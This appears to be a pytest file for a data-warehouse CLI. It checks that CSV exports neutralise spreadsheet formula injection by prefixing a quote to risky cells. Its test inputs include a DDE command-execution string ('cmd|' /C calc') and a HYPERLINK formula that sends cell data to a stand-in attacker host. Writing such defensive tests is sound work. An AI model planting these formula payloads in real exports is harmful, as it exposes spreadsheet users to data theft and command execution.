"""`ox-bb query --format csv` neutralises formula-like text cells exactly as compliance.csv does (one shared
function): text starting with =, +, -, @, tab or CR gets a leading single quote (and a row holding a CR
is quoted, so it stays one row); numbers and other text, and the table and JSON formats, are left as they are."""

from __future__ import annotations

import csv
import io
import json

import pytest

from ox_bb_pipeline.app.warehouse_cli import query
from ox_bb_pipeline.warehouse.report import FORMULA_STARTS, spreadsheet_safe

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"details")'


@pytest.fixture
def built(lake):
    repo = lake.repository("api")
    lake.finding(repo, "bandit", "B105", file_path="@evil.py")
    lake.build()
    return lake


def sql_text(value: str) -> str:
    """`value` as a DuckDB string expression (tab and CR through chr(), quotes doubled)."""
    return " || ".join(f"chr({ord(c)})" if c in "\t\r" else "'" + c.replace("'", "''") + "'" for c in value)


@pytest.mark.parametrize(
    "value", [*(start + "cmd|' /C calc'!A0" for start in FORMULA_STARTS), HYPERLINK, "-2+3", "acme/api", "a=b", "'=1"]
)
def test_a_text_cell_is_written_as_compliance_csv_writes_it(built, value):
    out = query(f"SELECT {sql_text(value)} AS cell", "csv", home=built.home)

    [row] = list(csv.DictReader(io.StringIO(out, newline="")))  # one row: a CR inside a cell is quoted
    assert row["cell"] == spreadsheet_safe(value)
    assert row["cell"] == ("'" + value if value.startswith(FORMULA_STARTS) else value)


def test_lake_text_and_column_aliases_are_neutralised_but_numbers_and_other_formats_are_not(built):
    sql = 'SELECT file_path, -5 AS n, -1.5 AS x, [1] AS l, file_path AS "=alias" FROM findings'

    out = query(sql, "csv", home=built.home)

    assert out.splitlines() == ["file_path,n,x,l,'=alias", "'@evil.py,-5,-1.5,[1],'@evil.py"]
    assert json.loads(query(sql, "json", home=built.home))[0]["file_path"] == "@evil.py"
    assert "'@evil" not in query(sql, "table", home=built.home)
